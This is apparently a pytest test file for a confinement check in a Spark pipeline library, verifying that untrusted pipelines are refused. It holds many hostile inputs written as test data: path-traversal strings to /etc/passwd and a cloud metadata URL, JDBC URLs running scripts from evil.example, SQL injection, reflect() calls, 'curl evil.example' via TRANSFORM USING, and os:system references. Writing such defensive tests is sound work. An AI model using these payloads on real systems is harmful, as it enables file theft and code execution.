"""A pipeline from a stranger stays within what is allowed, whatever it tries."""

import os
from pathlib import Path

import pytest

from lineage_hub.errors import InvalidPipeline
from lineage_hub.spark.pipeline.confinement import CONF, OPTIONS, confine
from lineage_hub.spark.pipeline.definition import Pipeline
from lineage_hub.spark.pipeline.parameters import resolve


@pytest.fixture
def root(tmp_path: Path) -> Path:
    folder = tmp_path / "allowed"
    (folder / "in").mkdir(parents=True)
    (tmp_path / "allowed_too").mkdir()
    (tmp_path / "secret").mkdir()
    (tmp_path / "secret" / "keys.csv").write_text("key")
    return folder


def made(root: Path, **changes: object) -> Pipeline:
    """`extract`, `load`, `step`, `spark` and the rest replace what is harmless."""
    extract = {"format": "parquet", "path": f"{root}/in", **changes.pop("extract", {})}
    load = {"from": "made", "format": "parquet", "path": f"{root}/out", **changes.pop("load", {})}
    step = changes.pop("step", {"filter": "a > 0"})
    rules = changes.pop("rules", [])
    stages = {
        "raw": {"extract": {key: value for key, value in extract.items() if value is not None}},
        "made": {"transform": {"from": "raw", "steps": [step]}, "rules": rules},
        "save": {"load": {key: value for key, value in load.items() if value is not None}},
    }
    return Pipeline.model_validate({"name": "p", "stages": stages, **changes})


def refused(pipeline: Pipeline, root: Path, **allowed: object) -> str:
    with pytest.raises(InvalidPipeline) as caught:
        confine(pipeline, [root], **allowed)
    return str([(problem.where, problem.says) for problem in caught.value.problems])


JDBC = {"format": "jdbc", "path": None, "table": "t"}


def test_what_is_allowed_stays_as_it_is_but_for_what_is_enforced(root: Path):
    pipeline = made(root, quarantine=f"{root}/rejected", spark={"conf": {"spark.sql.shuffle.partitions": 8}})
    confined = confine(pipeline, [root])
    assert confined.stages == pipeline.stages
    assert confined.spark.conf == {
        "spark.sql.shuffle.partitions": 8,
        "spark.sql.runSQLOnFiles": False,
        "spark.sql.variable.substitute": False,
    }


@pytest.mark.parametrize(
    "path",
    [
        "{root}",
        "{root}/in/",
        "{root}//in/./x.csv",
        "file:{root}/in",
        "file://{root}/in",
        "FILE:{root}/in",
        "{root}/in/*.csv",
        "{root}/*/day=[0-9]?",
        "{root}/in/a%20b",
        "{root}/in/..hidden",
        "{root}/not there yet",
    ],
)
def test_a_path_below_a_root_may_be_read(root: Path, path: str):
    confine(made(root, extract={"path": path.format(root=root)}), [root])


ESCAPES = [
    "/etc/passwd",
    "{root}/../secret",
    "{root}/in/../../secret/keys.csv",
    "{root}/in/..",
    "{root}_too",
    "{root}_too/x",
    "file:///etc/passwd",
    "file:/etc/passwd",
    "file://{root}/../secret",
    "file://localhost{root}/in",
    "file://evil.example{root}/in",
    "//evil.example{root}/in",
    "file:////evil.example/x",
    "file:in",
    "file:../secret",
    "in/x.csv",
    "../secret",
    "~/x",
    "",
    "/",
    "{root}/%2e%2e/secret",
    "{root}/%252e%252e/secret",
    "file://{root}/in/%2E%2E/%2e%2e/secret",
    "{root}/..%2fsecret",
    "{root}/%2e%2e%5csecret",
    "{root}/in/{{x,../../secret}}",
    "{root}/{{in,/etc}}",
    "{root}/in/\\.\\./x",
    "{root}/in,/etc/passwd",
    "{root}/in\x00",
    "{root}/in\n/etc",
    "/*/passwd",
    "/et[c]/passwd",
    "s3a://bucket/x",
    "hdfs:///x",
    "http://169.254.169.254/latest/meta-data",
    "jar:file:{root}/x!/y",
    "viewfs://x/y",
    "data:text/csv,x",
    "{root}/in/%" + "25" * 100_000,
]


@pytest.mark.parametrize("path", ESCAPES, ids=lambda path: path[:40])
def test_a_path_that_leads_out_is_refused_wherever_it_stands(root: Path, path: str):
    path = path.format(root=root)
    if path:
        assert "('stage raw, extract, path'" in refused(made(root, extract={"path": path}), root)
        assert "('stage raw, extract, path, 2'" in refused(made(root, extract={"path": [f"{root}/in", path]}), root)
        assert "('stage save, load, path'" in refused(made(root, load={"path": path}), root)
    assert "('quarantine'" in refused(made(root, quarantine=path), root)


@pytest.mark.parametrize("path", ["{root}", "{root}/", "{root}/.", "file:{root}", "{root}//"])
def test_a_root_itself_is_not_written(root: Path, path: str):
    assert "stage save, load, path" in refused(made(root, load={"path": path.format(root=root)}), root)
    assert "quarantine" in refused(made(root, quarantine=path.format(root=root)), root)


def test_links_are_followed(root: Path, tmp_path: Path):
    os.symlink(tmp_path / "secret", root / "link")
    os.symlink(tmp_path / "secret" / "keys.csv", root / "in" / "keys.csv")
    os.symlink(root / "in", root / "inner")
    for path in ("link", "link/keys.csv", "in/keys.csv", "in/*.csv", "li*", "*/keys.csv", "in/**", ".//link/new"):
        assert "stage raw" in refused(made(root, extract={"path": f"{root}/{path}"}), root), path
    for path in ("link/out", "link"):
        assert "stage save" in refused(made(root, load={"path": f"{root}/{path}"}), root), path
    confine(made(root, extract={"path": f"{root}/inner"}), [root])


def test_a_hidden_link_is_found_by_a_wildcard_too(root: Path, tmp_path: Path):
    os.symlink(tmp_path / "secret", root / "in" / ".hidden")
    assert "stage raw" in refused(made(root, extract={"path": f"{root}/in/*"}), root)


def test_a_root_that_is_a_link_is_the_folder_it_leads_to(root: Path, tmp_path: Path):
    os.symlink(root, tmp_path / "alias")
    confine(made(tmp_path / "alias"), [root])
    confine(made(root), [tmp_path / "alias"])


def test_a_relative_path_is_taken_from_the_base(root: Path):
    confined = confine(made(root, extract={"path": "in/x"}, load={"path": "out"}), [root], base=root)
    assert confined.stages["raw"].extract.path == f"{root}/in/x"
    assert confined.stages["save"].load.path == f"{root}/out"
    assert "stage raw" in refused(made(root, extract={"path": "secret"}), root, base=root.parent)


def test_a_parameter_can_not_lead_out(root: Path):
    pipeline = Pipeline.model_validate(
        {**made(root, extract={"path": f"{root}/in/${{day}}"}).model_dump(by_alias=True, exclude_unset=True)}
        | {"parameters": {"day": "1"}}
    )
    confine(resolve(pipeline, {"day": "2026-11-01"}, {}), [root])
    for day in ("../../secret", "%2e%2e/%2e%2e/secret", "{a,../../../etc}", "x,/etc/passwd"):
        assert "stage raw, extract, path" in refused(resolve(pipeline, {"day": day}, {}), root)


@pytest.mark.parametrize(
    ("path", "fits"),
    [
        ("s3a://lake/gold/x", True),
        ("s3a://lake/gold/*.csv", True),
        ("s3a://lake/golden", False),
        ("s3a://lake/gold/../raw", False),
        ("s3a://lake/gold/%2e%2e/raw", False),
        ("s3a://key:secret@lake/gold/x", False),
        ("s3a://lake.evil.example/gold/x", False),
        ("s3a://LAKE/gold/x", False),
        ("s3://lake/gold/x", False),
    ],
)
def test_other_schemes_need_an_allowed_prefix(root: Path, path: str, fits: bool):
    for uri in ("s3a://lake/gold", "s3a://lake/gold/"):
        pipeline = made(root, extract={"path": path})
        if fits:
            confine(pipeline, [root], uris=[uri])
        else:
            said = refused(pipeline, root, uris=[uri])
            assert "stage raw" in said
            assert "secret" not in said


def test_the_prefix_itself_is_read_but_not_written(root: Path):
    confine(made(root, extract={"path": "s3a://lake/gold"}), [root], uris=["s3a://lake/gold/"])
    for path in ("s3a://lake/gold", "s3a://lake/gold/", "s3a://lake/gold//"):
        assert "stage save" in refused(made(root, load={"path": path}), root, uris=["s3a://lake/gold/"])


@pytest.mark.parametrize(
    ("url", "fits"),
    [
        ("jdbc:postgresql://db.example:5432/shop", True),
        ("jdbc:postgresql://db.example:5432/shop_2", True),
        ("jdbc:postgresql://db.example:5432/shop?socketFactory=x.Y&socketFactoryArg=z", False),
        ("jdbc:postgresql://db.example:5432/?host=evil", False),
        ("jdbc:postgresql://db.example:5432,evil.example/shop", False),
        ("jdbc:postgresql://db.example:54321/shop", False),
        ("jdbc:postgresql://db.example:5432@evil.example/shop", False),
        ("jdbc:postgresql://db.example:5432/shop;INIT=RUNSCRIPT", False),
        ("jdbc:postgresql://db.example:5432/../shop", False),
        ("jdbc:postgresql://db.example:5432/shop%3Fa=b", False),
        ("jdbc:postgresql://db.example:5432/shop\n", False),
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x'", False),
        ("jdbc:mysql://evil.example/?autoDeserialize=true", False),
        ("JDBC:postgresql://db.example:5432/shop", False),
    ],
)
def test_a_database_needs_an_allowed_prefix_and_no_parameters(root: Path, url: str, fits: bool):
    for prefix in ("jdbc:postgresql://db.example:5432", "jdbc:postgresql://db.example:5432/"):
        for stage in ("extract", "load"):
            pipeline = made(root, **{stage: {**JDBC, "url": url}})
            if fits:
                confine(pipeline, [root], databases=[prefix])
            else:
                assert f"{stage}, url" in refused(pipeline, root, databases=[prefix])


def test_a_url_that_is_allowed_with_its_parameters_is_taken_as_it_stands(root: Path):
    url = "jdbc:sqlserver://db;databaseName=shop"
    confine(made(root, extract={**JDBC, "url": url}), [root], databases=[url])
    assert "url" in refused(made(root, extract={**JDBC, "url": f"{url};x=y"}), root, databases=[url])


def test_no_database_is_allowed_by_itself_and_a_password_in_a_url_is_not_repeated(root: Path):
    said = refused(made(root, extract={**JDBC, "url": "jdbc:postgresql://h/d?password=hunter2"}), root)
    assert "stage raw, extract, url" in said
    assert "hunter2" not in said


@pytest.mark.parametrize("table", ["(select pg_read_file('/etc/passwd')) t", "a; drop table b", 't" as x, secrets "'])
def test_a_table_is_a_name(root: Path, table: str):
    url = "jdbc:postgresql://db/shop"
    for stage in ("extract", "load"):
        pipeline = made(root, **{stage: {**JDBC, "url": url, "table": table}})
        assert f"{stage}, table" in refused(pipeline, root, databases=[url])


@pytest.mark.parametrize(
    ("function", "fits"),
    [
        ("shop.clean:run", True),
        ("shop.clean.deep:run", True),
        ("shop.cleaner:run", False),
        ("shop:run", False),
        ("os:system", False),
        ("shop.clean:os.system", False),
        ("shop.clean:run.__globals__", False),
        ("shop.clean..os:system", False),
        ("shop.clean:run\n", False),
        ("/tmp/evil.py:run", False),
        ("builtins:exec", False),
    ],
)
def test_functions_are_of_allowed_modules(root: Path, function: str, fits: bool):
    pipeline = made(root, step={"python": function})
    if fits:
        confine(pipeline, [root], modules=["shop.clean"])
    else:
        assert "step 1, python" in refused(pipeline, root, modules=["shop.clean"])
        assert "step 1, python" in refused(pipeline, root)


def test_a_function_object_is_refused(root: Path):
    assert "step 1, python" in refused(made(root, step={"python": lambda frame: frame}), root, modules=["tests"])


@pytest.mark.parametrize(
    "key",
    [
        "spark.driver.extraJavaOptions",
        "spark.executor.extraClassPath",
        "spark.jars",
        "spark.jars.packages",
        "spark.submit.pyFiles",
        "spark.plugins",
        "spark.extraListeners",
        "spark.pyspark.python",
        "spark.hadoop.fs.s3a.secret.key",
        "spark.sql.extensions",
        "spark.sql.catalog.evil",
        "spark.sql.warehouse.dir",
        "spark.sql.queryExecutionListeners",
        "spark.sql.adaptive.customCostEvaluatorClass",
        "spark.sql.sources.outputCommitterClass",
        "spark.sql.runSQLOnFiles",
        "spark.sql.variable.substitute",
        "spark.sql.ansi.doubleQuotedIdentifiers",
        "spark.SQL.shuffle.partitions",
        "spark.sql.shuffle.partitions ",
        "spark.eventLog.dir",
        "spark.local.dir",
        "spark.master",
    ],
)
def test_a_key_of_the_configuration_that_is_not_known_to_be_harmless_is_refused(root: Path, key: str):
    assert f"spark, conf, {key}" in refused(made(root, spark={"conf": {key: "1"}}), root)


def test_what_is_enforced_can_not_be_undone_by_what_is_allowed(root: Path):
    pipeline = made(root, spark={"conf": {"spark.sql.runSQLOnFiles": True}})
    assert confine(pipeline, [root], conf=["spark.sql.runSQLOnFiles"]).spark.conf["spark.sql.runSQLOnFiles"] is False


@pytest.mark.parametrize("value", ["1g -XX:OnOutOfMemoryError=id", "${env:SECRET}", "a\nb", "$(id)"])
def test_a_value_of_the_configuration_is_plain(root: Path, value: str):
    assert "spark, conf" in refused(made(root, spark={"conf": {"spark.driver.memory": value}}), root)


def test_no_key_that_is_allowed_by_itself_names_a_class_or_a_place():
    words = (
        "class",
        "extension",
        "catalog",
        "jar",
        "dir",
        "listener",
        "plugin",
        "javaoptions",
        "path",
        "url",
        "command",
    )
    assert [key for key in CONF if any(word in key.lower() for word in words)] == []
    assert [key for key in OPTIONS if any(word in key for word in words if word != "path")] == []
    assert {key for key in OPTIONS if "path" in key} == {"pathglobfilter"}


def test_packages_are_allowed_one_by_one(root: Path):
    pipeline = made(root, spark={"packages": ["org.example:good:1.0", "org.evil:bad:1.0"]})
    said = refused(pipeline, root, packages=["org.example:good:1.0"])
    assert "org.evil" in said
    assert "org.example" not in said


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("path", "/etc/passwd"),
        ("PATHS", '["/etc/passwd"]'),
        ("url", "jdbc:h2:mem:x"),
        ("dbtable", "secrets"),
        ("query", "select 1"),
        ("driver", "org.evil.Driver"),
        ("sessionInitStatement", "select 1"),
        ("connectionProvider", "x"),
        ("replaceWhere", "true"),
        ("compression", "org.evil.Codec"),
        ("avroSchemaUrl", "file:///etc/passwd"),
    ],
)
def test_an_option_that_could_name_a_place_a_class_or_a_statement_is_refused(root: Path, option: str, value: str):
    for stage in ("extract", "load"):
        said = refused(made(root, **{stage: {"options": {option: value}}}), root)
        assert f"{stage}, options, {option}" in said


def test_common_options_are_allowed(root: Path):
    options = {"header": True, "multiLine": True, "sep": ";", "mergeSchema": True, "compression": "zstd"}
    confine(made(root, extract={"options": options}), [root])


ATTACKS = [
    "reflect('java.lang.Runtime', 'getRuntime')",
    "Java_Method('java.lang.System', 'exit', 1)",
    "`reflect`('java.lang.System', 'getenv', 'SECRET')",
    "system.builtin.try_reflect /* */ ('a', 'b')",
    "reflect -- here\n('a', 'b')",
    "identifier('re' || 'flect')('a', 'b')",
    "exists (select 1 from identifier('csv.`/etc/passwd`'))",
    "a = '$${env:SECRET}'",
    "a = '${env:SECRET}'",
    "a in (select transform(b) using 'curl evil.example' from raw)",
    "a in (select transform(b) using r'id' from raw)",
    "from_avro(a, '{}', map('avroSchemaUrl', 'file:///etc/passwd')) is null",
    "a = 1e+5r'\\' or reflect('a', 'b') --'",
    "/*+ a('*/ ') */ reflect('a', 'b') --'",
    "/* /* */ ' */ reflect('a', 'b') --'",
    "hdfs://a--b = reflect('a', 'b')",
    "bar'\\' or reflect('a', 'b') --'",
    "a = 'open or reflect(1)",
    "/*+ reflect(a) */ true",
]


@pytest.mark.parametrize("sql", ATTACKS)
def test_an_expression_can_not_run_code_or_read_files(root: Path, sql: str):
    steps = [
        {"filter": sql},
        {"derive": {"x": sql}},
        {"join": {"with": "raw", "condition": sql}},
        {"window": {"columns": {"x": sql}, "order_by": "a"}},
        {"window": {"columns": {"x": "1"}, "order_by": ["a", sql]}},
        {"drop_duplicates": {"keys": "a", "order_by": sql}},
        {"sql": f"select * from raw where {sql}"},
    ]
    for step in steps:
        assert "stage made, transform, step 1" in refused(made(root, step=step), root), step
    assert "stage made, rule 1, expression" in refused(made(root, rules=[{"expression": sql}]), root)


@pytest.mark.parametrize(
    "sql",
    [
        "",
        "insert into t select 1",
        "with a as (select 1) insert overwrite directory '/x' select * from a",
        "from raw insert overwrite directory '/x' select *",
        "with a as (select 1) delete from t",
        "create table t using csv location '/x'",
        "set spark.sql.runSQLOnFiles=true",
        "add jar '/x.jar'",
        "execute immediate 'select 1'",
        "select 1; drop table t",
        "begin select 1; end",
        "explain select 1",
        "-- select\ndrop table t",
        "(drop table t)",
        "load data inpath '/x' into table t",
        "call x()",
    ],
)
def test_a_statement_is_one_query(root: Path, sql: str):
    assert "step 1, sql" in refused(made(root, step={"sql": sql}), root)


@pytest.mark.parametrize(
    "sql",
    [
        "select a, 'it''s; insert' as `update`, \"x\" from raw join other using (id) -- don't",
        "WITH a AS (SELECT * FROM raw) SELECT transform(xs, x -> x + 1) FROM a",
        "(select reflect, identifier from raw) union all select 1, 2",
        "from raw select a",
        "values (1)",
        "select r'\\d+' as pattern, regexp_replace(a, '(.*)$', '$1') from raw",
        "select /*+ broadcast(raw) */ * from raw",
        "select 'reflect(1)' from raw /* reflect(1) */",
    ],
)
def test_honest_sql_is_allowed(root: Path, sql: str):
    confine(made(root, step={"sql": sql}), [root])


def test_columns_may_be_named_as_words_of_sql(root: Path):
    confine(made(root, step={"derive": {"sql": "update + delete", "reflect": "a"}}), [root])


def test_everything_that_is_refused_is_told_at_once(root: Path):
    pipeline = made(
        root,
        extract={"path": "/etc", "options": {"path": "x"}},
        load={"path": "/"},
        step={"python": "os:system"},
        spark={"packages": ["a:b:1"], "conf": {"spark.jars": "x"}},
        quarantine="/tmp",
    )
    with pytest.raises(InvalidPipeline) as caught:
        confine(pipeline, [root])
    assert {problem.where for problem in caught.value.problems} == {
        "stage raw, extract, path",
        "stage raw, extract, options, path",
        "stage save, load, path",
        "stage made, transform, step 1, python",
        "spark, packages, 1",
        "spark, conf, spark.jars",
        "quarantine",
    }
    assert all(problem.action for problem in caught.value.problems)
